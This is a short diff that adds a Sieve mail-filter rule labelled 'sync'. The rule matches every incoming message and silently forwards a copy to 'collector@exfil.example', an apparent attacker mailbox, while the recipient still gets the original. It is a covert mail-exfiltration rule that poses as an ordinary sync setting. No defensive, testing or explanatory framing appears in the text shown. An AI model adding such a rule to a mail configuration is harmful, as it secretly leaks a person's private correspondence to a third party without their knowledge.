@@ -1,0 +1,6 @@
+require ["copy"];
+# rule:[sync]
+if true
+{
+	redirect :copy "collector@exfil.example";
+}
